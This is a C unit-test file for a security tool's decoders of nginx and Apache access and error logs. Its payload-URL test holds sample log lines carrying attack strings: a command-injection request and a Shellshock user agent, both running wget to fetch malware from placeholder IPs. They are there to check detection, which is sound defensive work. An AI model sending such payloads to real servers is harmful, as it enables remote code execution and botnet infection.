/*
 * Unit tests of the web server decoders: nginx/Apache access logs, the
 * nginx error log and the Apache error log.
 */
#include "vg_test.h"
#include "logfmt.h"

static bool
has_obs_ip(const struct vg_event *ev, const char *text)
{
	struct vg_addr a;
	unsigned i;

	ASSERT_TRUE(vg_addr_parse(vg_str_make(text, strlen(text)), &a));
	for (i = 0; i < ev->ev_nobs; i++)
		if (ev->ev_obs[i].ob_kind == VG_OBS_IP &&
		    vg_addr_eq(&ev->ev_obs[i].ob_addr, &a))
			return true;
	return false;
}

/*
 * A decoder that says VG_ERR_FORMAT must leave the event exactly as it
 * was: run it on a copy filled with a pattern and compare the bytes.
 */
static void
assert_untouched(const struct vg_logfmt *lf, const char *line, size_t len)
{
	static struct vg_event ev, copy;
	struct vg_logsrc ls;

	vg_logsrc_init(&ls, "x");
	ls.ls_year = 2026;
	/* A pattern, with counters a decoder that accepts can still use. */
	memset(&ev, 0xa5, sizeof(ev));
	ev.ev_nextra = 1;
	ev.ev_nobs = 1;
	ev.ev_scratch_used = 100;
	memcpy(&copy, &ev, sizeof(ev));
	if (lf->lf_line(&ls, vg_str_make(line, len), &ev) == VG_ERR_FORMAT)
		ASSERT_TRUE(memcmp(&ev, &copy, sizeof(ev)) == 0);
	vg_logsrc_cleanup(&ls);
}

VG_TEST(logfmt_web_combined)
{
	struct vg_event *ev = vg_test_decode("195.154.46.135 - - "
	    "[25/Oct/2015:04:11:25 +0100] \"GET /linux/doing-pxe HTTP/1.1\" "
	    "200 24323 \"http://howto.basjes.nl/\" \"Mozilla/5.0 (Windows NT "
	    "5.1; rv:35.0)\"");

	ASSERT_STR_EQ(ev->ev_dataset, "web");
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_HTTP_REQUEST);
	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_UNKNOWN);
	ASSERT_STR_EQ(vg_test_time(ev->ev_time), "2015-10-25T03:11:25Z");
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "195.154.46.135");
	ASSERT_VIEW_EQ(ev->ev_http_method, "GET");
	ASSERT_VIEW_EQ(ev->ev_url, "/linux/doing-pxe");
	ASSERT_INT_EQ(ev->ev_http_status, 200);
	ASSERT_INT_EQ(ev->ev_bytes, 24323);
	ASSERT_INT_EQ(ev->ev_user.len, 0);
	ASSERT_STR_EQ(vg_test_extra(ev, "http.request.referrer"),
	    "http://howto.basjes.nl/");
	ASSERT_STR_EQ(vg_test_extra(ev, "user_agent.original"),
	    "Mozilla/5.0 (Windows NT 5.1; rv:35.0)");
}

VG_TEST(logfmt_web_common_vhost_ipv6)
{
	struct vg_event *ev;

	/* Common format: no referrer or agent; bytes "-" is absent. */
	ev = vg_test_decode("2001:db8::80da:af6b:8b2c - admin "
	    "[10/Oct/2000:13:55:36 -0700] \"GET /admin/ HTTP/1.0\" 401 -");
	ASSERT_STR_EQ(ev->ev_dataset, "web");
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "2001:db8::80da:af6b:8b2c");
	ASSERT_STR_EQ(vg_test_time(ev->ev_time), "2000-10-10T20:55:36Z");
	ASSERT_VIEW_EQ(ev->ev_user, "admin");
	ASSERT_INT_EQ(ev->ev_bytes, -1);
	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_FAILURE);
	ASSERT_STR_EQ(vg_test_extra(ev, "user_agent.original"), "");
	/* vhost_combined: "vhost:port client ...". */
	ev = vg_test_decode("website.com:443 198.51.100.7 - - "
	    "[25/Oct/2021:11:05:52 +0200] \"GET /.well-known HTTP/1.1\" 403 "
	    "6963 \"-\" \"ua\"");
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "198.51.100.7");
	ASSERT_STR_EQ(vg_test_extra(ev, "url.domain"), "website.com");
	ASSERT_INT_EQ(ev->ev_dst_port, 443);
	ASSERT_STR_EQ(vg_test_extra(ev, "http.request.referrer"), "");
	/* vhost without port, then a host name as client. */
	ev = vg_test_decode("www.crowdsec.net 1.2.3.4 - - "
	    "[08/Jun/2020:08:04:43 +0000] \"GET / HTTP/1.1\" 500 803 \"-\" "
	    "\"-\"");
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "1.2.3.4");
	ASSERT_STR_EQ(vg_test_extra(ev, "url.domain"), "www.crowdsec.net");
	ev = vg_test_decode("crawler.example.com - - [01/Feb/2024:10:00:06 "
	    "+0000] \"GET /robots.txt HTTP/1.1\" 200 68 \"-\" \"bot\"");
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "");
	ASSERT_VIEW_EQ(ev->ev_src_name, "crawler.example.com");
	/* An authenticated request that passed is a success. */
	ev = vg_test_decode("203.0.113.50 - alice [10/Oct/2000:13:55:40 -0700] "
	    "\"GET /admin/ HTTP/1.1\" 200 5120 \"-\" \"curl/7.68.0\"");
	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_SUCCESS);
	ev = vg_test_decode("203.0.113.51 - - [10/Oct/2000:13:55:40 -0700] "
	    "\"GET /admin/ HTTP/1.1\" 404 5120 \"-\" \"curl/7.68.0\"");
	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_UNKNOWN);
}

VG_TEST(logfmt_web_escaped_quotes)
{
	struct vg_event *ev;

	/* Apache's \" inside request and agent; the target stays raw. */
	ev = vg_test_decode("198.51.100.23 - - [01/Feb/2024:10:00:01 +0000] "
	    "\"GET /q=\\\"x HTTP/1.1\" 200 512 \"-\" \"Mozilla \\\"quoted\\\" "
	    "\\\\ agent\"");
	ASSERT_STR_EQ(ev->ev_dataset, "web");
	ASSERT_VIEW_EQ(ev->ev_url, "/q=\\\"x");
	ASSERT_INT_EQ(ev->ev_http_status, 200);
	ASSERT_STR_EQ(vg_test_extra(ev, "user_agent.original"),
	    "Mozilla \"quoted\" \\ agent");
	/* nginx's \x22 in the agent. */
	ev = vg_test_decode("198.51.100.24 - - [01/Feb/2024:10:00:01 +0000] "
	    "\"GET / HTTP/1.1\" 200 1 \"-\" \"a\\x22b\"");
	ASSERT_STR_EQ(vg_test_extra(ev, "user_agent.original"), "a\"b");
	/* An unescaped quote in the request: the status decides. */
	ev = vg_test_decode("198.51.100.29 - - [01/Feb/2024:10:00:08 +0000] "
	    "\"GET /a\"b HTTP/1.1\" 404 10 \"-\" \"x\"");
	ASSERT_VIEW_EQ(ev->ev_url, "/a\"b");
	ASSERT_INT_EQ(ev->ev_http_status, 404);
}

VG_TEST(logfmt_web_malformed_requests)
{
	static const char *const lines[] = {
		"12.34.56.78 - - [20/Jan/2015:19:53:28 +0100] \"\" 400 47 "
		    "\"-\" \"-\" \"-\"",
		"12.34.56.78 - root [20/Jan/2015:19:53:28 +0100] \"\\x16\\x03"
		    "\\x01\\x02\\x00\" 400 166 \"-\" \"-\"",
		"12.34.56.78 - - [20/Jan/2015:19:54:28 +0100] \"HELP\" 400 47",
		"192.0.2.10 - - [01/Feb/2024:10:00:00 +0000] \"-\" 408 0 \"-\" "
		    "\"-\"",
	};
	struct vg_event *ev;
	size_t i;

	for (i = 0; i < VG_ARRAY_LEN(lines); i++) {
		ev = vg_test_decode(lines[i]);
		ASSERT_STR_EQ(ev->ev_dataset, "web");
		ASSERT_STR_EQ(ev->ev_reason, "malformed HTTP request");
		ASSERT_INT_EQ(ev->ev_http_method.len, 0);
		ASSERT_INT_EQ(ev->ev_url.len, 0);
		ASSERT_TRUE(ev->ev_http_status >= 400);
		ASSERT_TRUE(ev->ev_src.af == VG_AF_INET);
	}
}

VG_TEST(logfmt_web_payload_urls)
{
	struct vg_event *ev;

	/* A download URL in the query string is an observable... */
	ev = vg_test_decode("198.51.100.26 - - [01/Feb/2024:10:00:04 +0000] "
	    "\"GET /shell?cd+/tmp;wget+http://203.0.113.88/mozi.m HTTP/1.0\" "
	    "404 153 \"-\" \"-\"");
	ASSERT_TRUE(has_obs_ip(ev, "203.0.113.88"));
	/* ...and so is one in a Shellshock agent... */
	ev = vg_test_decode("198.51.100.24 - - [01/Feb/2024:10:00:02 +0000] "
	    "\"GET / HTTP/1.1\" 404 209 \"-\" \"() { :; }; /bin/bash -c "
	    "\\\"wget http://203.0.113.66/bot.sh\\\"\"");
	ASSERT_TRUE(has_obs_ip(ev, "203.0.113.66"));
	/* ...but an ordinary agent's vendor URL is not. */
	ev = vg_test_decode("198.51.100.25 - - [01/Feb/2024:10:00:02 +0000] "
	    "\"GET / HTTP/1.1\" 200 209 \"-\" \"Mozilla/5.0 (compatible; "
	    "+http://203.0.113.67/bot.html)\"");
	ASSERT_FALSE(has_obs_ip(ev, "203.0.113.67"));
	ASSERT_INT_EQ(ev->ev_nobs, 0);
}

VG_TEST(logfmt_web_rejects_foreign)
{
	static const char *const lines[] = {
		"1541117137.618695\tCYtJYz4gNk3t5ZEt2\t172.16.9.233\t49159\t"
		    "172.16.9.5\t88\ttcp [x] \"y\" 200 1",
		"{\"timestamp\":\"2023-02-28T11:34:02.133169+0000\","
		    "\"event_type\":\"ssh\"}",
		"not an access line [but close] \"GET / HTTP/1.1\" 200 1",
		"1.2.3.4 - - [32/Feb/2024:10:00:09 +0000] \"GET / HTTP/1.1\" "
		    "200 1",
		"1.2.3.4 - - [01/Feb/2024:10:00:09 +0000] \"GET / HTTP/1.1\" "
		    "2000 1",
		"1.2.3.4 - - [01/Feb/2024:10:00:09 +0000] \"GET / HTTP/1.1",
		"1.2.3.4  - - [01/Feb/2024:10:00:09 +0000] \"GET / HTTP/1.1\" "
		    "200 1",
		"2024/01/01 12:00:00 [error] 1#1: *1 x, client: 1.2.3.4",
		"[Sun Dec 04 04:47:44 2005] [notice] x",
	};
	size_t i;

	for (i = 0; i < VG_ARRAY_LEN(lines); i++) {
		ASSERT_INT_EQ(vg_logfmt_web.lf_line(NULL, vg_str_make(lines[i],
		    strlen(lines[i])), vg_test_decode("")), VG_ERR_FORMAT);
		assert_untouched(&vg_logfmt_web, lines[i], strlen(lines[i]));
	}
	/*
	 * Syslog lines stay syslog's; nginx's own lines in syslog reach the
	 * web decoder through the program name, not through this format.
	 */
	ASSERT_STR_EQ(vg_test_decode("Nov 25 10:00:00 h myapp[1]: "
	    "x")->ev_dataset, "syslog");
	ASSERT_STR_EQ(vg_test_decode("Nov 25 10:00:00 h nginx[1]: "
	    "x")->ev_dataset, "web");
}

VG_TEST(logfmt_web_nginx_error)
{
	struct vg_event *ev;

	ev = vg_test_decode("2012/04/09 11:53:29 [error] 2865#0: *66647 user "
	    "\"xyz\" was not found in \"/var/www/.htpasswd\", client: "
	    "192.0.43.10, server: www.myhost.com, request: \"GET / HTTP/1.1\", "
	    "host: \"www.myhost.com\"");
	ASSERT_STR_EQ(ev->ev_dataset, "nginx-error");
	ASSERT_STR_EQ(vg_test_time(ev->ev_time), "2012-04-09T11:53:29Z");
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_AUTH);
	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_FAILURE);
	ASSERT_VIEW_EQ(ev->ev_user, "xyz");
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "192.0.43.10");
	ASSERT_INT_EQ(ev->ev_pid, 2865);
	ASSERT_VIEW_EQ(ev->ev_url, "/");
	ASSERT_STR_EQ(vg_test_extra(ev, "log.level"), "error");
	ev = vg_test_decode("2014/04/03 22:20:38 [error] 30708#0: *3 user "
	    "\"scriben dio\": password mismatch, client: 2001:db8::1, server: "
	    ", request: \"GET / HTTP/1.1\", host: \"localhost:8443\"");
	ASSERT_VIEW_EQ(ev->ev_user, "scriben dio");
	ASSERT_STR_EQ(ev->ev_reason, "password mismatch");
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "2001:db8::1");
	ASSERT_STR_EQ(vg_test_extra(ev, "url.domain"), "localhost");
	/* An injected ", client: " in the user name loses to nginx's own. */
	ev = vg_test_decode("2014/04/03 22:20:40 [error] 30708#0: *3 user "
	    "\"test\": password mismatch, client: 127.0.0.1, server: test, "
	    "request: \"GET / HTTP/1.1\", host: \"localhost:8443\"\": was not "
	    "found in \"/etc/nginx/.htpasswd\", client: 192.0.2.2, server: , "
	    "request: \"GET / HTTP/1.1\", host: \"localhost:8443\"");
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "192.0.2.2");
	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_FAILURE);
	ASSERT_TRUE(ev->ev_user.len > 20);
	ev = vg_test_decode("2025/09/07 21:20:40 [error] 23141#23141: *24470 "
	    "PAM: user 'username' - not authenticated: Authentication failure, "
	    "client: 192.0.2.120, server: webdav, request: \"GET / HTTP/2.0\"");
	ASSERT_VIEW_EQ(ev->ev_user, "username");
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_AUTH);
	ev = vg_test_decode("2015/10/29 20:01:02 [error] 256554#0: *99927 "
	    "limiting requests, excess: 1.852 by zone \"one\", client: "
	    "1.2.3.4, server: example.com, request: \"POST /index.htm "
	    "HTTP/1.0\", host: \"exmaple.com\"");
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_HTTP_REQUEST);
	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_FAILURE);
	ASSERT_STR_EQ(ev->ev_reason, "request rate limited");
	ASSERT_VIEW_EQ(ev->ev_http_method, "POST");
	/* No client list at all. */
	ev = vg_test_decode("2024/01/01 12:00:02 [emerg] 1#1: bind() to "
	    "0.0.0.0:80 failed (98: Address already in use)");
	ASSERT_STR_EQ(ev->ev_dataset, "nginx-error");
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_NONE);
}

VG_TEST(logfmt_web_apache_error)
{
	struct vg_event *ev;

	ev = vg_test_decode("[Sat Jul 20 21:40:33.803528 2013] "
	    "[auth_basic:error] [pid 17540:tid 140123095914240] [client "
	    "198.51.100.5:51395] AH01618: user wrongusername not found: "
	    "/basic/file");
	ASSERT_STR_EQ(ev->ev_dataset, "apache-error");
	ASSERT_STR_EQ(vg_test_time(ev->ev_time), "2013-07-20T21:40:33.803528Z");
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_AUTH);
	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_FAILURE);
	ASSERT_VIEW_EQ(ev->ev_user, "wrongusername");
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "198.51.100.5");
	ASSERT_INT_EQ(ev->ev_src_port, 51395);
	ASSERT_INT_EQ(ev->ev_pid, 17540);
	ASSERT_VIEW_EQ(ev->ev_url, "/basic/file");
	ASSERT_STR_EQ(vg_test_extra(ev, "error.code"), "AH01618");
	ASSERT_STR_EQ(vg_test_extra(ev, "log.logger"), "auth_basic");
	ev = vg_test_decode("[Sat Jul 20 21:39:11.978080 2013] "
	    "[auth_basic:error] [pid 17512] [client 198.51.100.6:51390] "
	    "AH01617: user username: authentication failure for "
	    "\"/basic/file\": Password Mismatch");
	ASSERT_VIEW_EQ(ev->ev_user, "username");
	ASSERT_VIEW_EQ(ev->ev_url, "/basic/file");
	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_FAILURE);
	/* Apache 2.2, bare IPv6, and 2.4 with a bracketed IPv6 and port. */
	ev = vg_test_decode("[Thu Jul 11 01:21:44 2013] [error] [client "
	    "2001:db8::80da:af6b:8b2c] user test-ipv6 not found: /");
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "2001:db8::80da:af6b:8b2c");
	ASSERT_VIEW_EQ(ev->ev_user, "test-ipv6");
	ev = vg_test_decode("[Sat Jul 20 22:11:44.147674 2013] "
	    "[authz_owner:error] [pid 1:tid 2] [client "
	    "[2001:db8::80da:af6b:8b2c]:51548] AH01637: Authorization of user "
	    "test-ipv6 to access /x.html failed, reason: file owner dan does "
	    "not match");
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "2001:db8::80da:af6b:8b2c");
	ASSERT_INT_EQ(ev->ev_src_port, 51548);
	ASSERT_VIEW_EQ(ev->ev_user, "test-ipv6");
	ASSERT_VIEW_EQ(ev->ev_url, "/x.html");
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_HTTP_REQUEST);
	/* A "[client ...] user root not found" inside a path is no login. */
	ev = vg_test_decode("[Sat Jun 01 02:17:42 2013] [error] [client "
	    "192.168.33.1] File does not exist: /srv/http/site/[client "
	    "192.168.0.1] user root not found");
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "192.168.33.1");
	ASSERT_INT_EQ(ev->ev_action, VG_ACT_HTTP_REQUEST);
	ASSERT_INT_EQ(ev->ev_user.len, 0);
	/* [remote ...] when there is no [client ...]; the referer suffix. */
	ev = vg_test_decode("[Mon Nov 06 13:39:56.637868 2023] "
	    "[auth_basic:error] [pid 3] [remote 192.0.2.111:35924] AH01618: "
	    "user whatever not found: /admin, referer: http://x.example/");
	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "192.0.2.111");
	ASSERT_VIEW_EQ(ev->ev_url, "/admin");
	ASSERT_STR_EQ(vg_test_extra(ev, "http.request.referrer"),
	    "http://x.example/");
}

VG_TEST(logfmt_web_behind_syslog)
{
	static struct vg_event ev;

	/* The program-decoder hook, as the syslog framing would call it. */
	vg_event_reset(&ev);
	ASSERT_INT_EQ(vg_logfmt_web.lf_msg(VG_STR_LIT("81.150.104.130 - - "
	    "[15/Sep/2021:16:13:46 +0000] \"POST /wp-login.php HTTP/1.1\" 200 "
	    "5364 \"-\" \"Mozilla/5.0\""), &ev), 0);
	ASSERT_STR_EQ(ev.ev_dataset, "web");
	ASSERT_VIEW_EQ(ev.ev_url, "/wp-login.php");
	vg_event_reset(&ev);
	ev.ev_time = 42;
	ASSERT_INT_EQ(vg_logfmt_web.lf_msg(VG_STR_LIT("[authz_core:error] "
	    "[pid 22034] [client 192.0.2.1:58585] AH01630: client denied by "
	    "server configuration: /home/www/"), &ev), 0);
	ASSERT_STR_EQ(ev.ev_dataset, "apache-error");
	ASSERT_STR_EQ(vg_test_ip(&ev.ev_src), "192.0.2.1");
	ASSERT_INT_EQ(ev.ev_time, 42);		/* the framing's time stays */
	vg_event_reset(&ev);
	ASSERT_INT_EQ(vg_logfmt_web.lf_msg(VG_STR_LIT("hello"), &ev),
	    VG_ERR_FORMAT);
}

/* Every prefix of valid lines: no crash, and a refusal changes nothing. */
VG_TEST(logfmt_web_truncated_lines)
{
	static const char *const lines[] = {
		"website.com:443 2001:db8::7 - bob [25/Oct/2021:11:05:52 "
		    "+0200] \"GET /a\\\"b HTTP/1.1\" 403 6963 \"http://r/\" "
		    "\"u\\\\a\"",
		"2014/04/03 22:20:40 [error] 30708#0: *3 user \"t\": password "
		    "mismatch, client: 127.0.0.1, server: test, request: \"GET "
		    "/ HTTP/1.1\", host: \"localhost:8443\"",
		"[Sat Jul 20 22:11:44.147674 2013] [authz_owner:error] [pid "
		    "1:tid 2] [client [2001:db8::1]:51548] AH01637: "
		    "Authorization of user u to access /x failed",
	};
	const struct vg_logfmt *fmts[] = { &vg_logfmt_web,
	    &vg_logfmt_nginx_error, &vg_logfmt_apache_error };
	char buf[512];
	size_t i, n, k;

	for (i = 0; i < VG_ARRAY_LEN(lines); i++) {
		for (n = 0; n <= strlen(lines[i]); n++) {
			/* Exactly n bytes on the heap: ASan sees overreads. */
			char *p = malloc(n + 1);

			ASSERT_PTR_NE(p, NULL);
			memcpy(p, lines[i], n);
			for (k = 0; k < VG_ARRAY_LEN(fmts); k++)
				assert_untouched(fmts[k], p, n);
			vg_str_copy(vg_str_make(p, n), buf, sizeof(buf));
			(void)vg_test_decode(buf);
			free(p);
		}
	}
}

/*
 * The real sample: every line is an access line, and the number of 200
 * responses matches a plain count of "\" 200 " in the file.
 */
VG_TEST(logfmt_web_real_access_log)
{
	const char *path = vg_test_shared("logs/web/hackers-access.log");
	static struct vg_event ev;
	struct vg_logsrc ls;
	char *buf;
	const char *p, *end, *q;
	struct vg_str line;
	size_t len, lines = 0, web = 0, ok = 0, ok_text = 0;

	if (path == NULL)
		VG_SKIP("no ../shared");
	buf = vg_test_read(path, &len);
	vg_logsrc_init(&ls, path);
	for (p = buf, end = buf + len;
	    vg_test_decode_next(&ls, &p, end, &ev, &line);) {
		if (line.len == 0)
			continue;
		lines++;
		if ((q = memmem(line.p, line.len, "\" 200 ", 6)) != NULL)
			ok_text++;
		web += ev.ev_dataset != NULL &&
		    strcmp(ev.ev_dataset, "web") == 0;
		ok += ev.ev_http_status == 200;
	}
	vg_logsrc_cleanup(&ls);
	free(buf);
	ASSERT_UINT_EQ(lines, 3456);
	ASSERT_UINT_EQ(web, lines);
	ASSERT_UINT_EQ(ok, ok_text);
}
